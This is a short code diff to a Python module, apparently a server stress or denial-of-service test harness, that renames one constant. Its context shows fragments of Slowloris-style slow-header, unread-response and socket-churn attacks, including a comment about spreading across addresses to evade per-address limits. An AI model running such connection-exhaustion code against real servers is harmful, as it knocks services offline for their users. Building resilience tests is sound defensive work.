@@ -18,7 +18,7 @@ from typing import Final
 
 _MIB: Final = 1024 * 1024
 _NUM_ADDRESSES: Final = 8  # so that the server's limit per address does not end the attack
-_NUM_SLOW: Final = 1_000
+_NUM_SOCKETS: Final = 1_000
 _NUM_UNREAD: Final = 200
 _LINE_EVERY_S: Final = 4.0
 
@@ -93,7 +93,7 @@ async def slow_headers(target: Target) -> None:
                     await loop.sock_sendall(sock, b"X: y\r\n")
             await asyncio.sleep(_LINE_EVERY_S)
 
-    await asyncio.gather(*(send_one() for _ in range(_NUM_SLOW)))
+    await asyncio.gather(*(send_one() for _ in range(_NUM_SOCKETS)))
 
 
 async def unread_answers(target: Target) -> None:
@@ -115,7 +115,7 @@ async def opened_and_left(target: Target) -> None:
     """Open 1,000 sockets and close them immediately, every second."""
     while not target.is_over():
         socks = await asyncio.gather(
-            *(_connect(target) for _ in range(_NUM_SLOW)), return_exceptions=True
+            *(_connect(target) for _ in range(_NUM_SOCKETS)), return_exceptions=True
         )
         for sock in socks:
             if isinstance(sock, socket.socket):
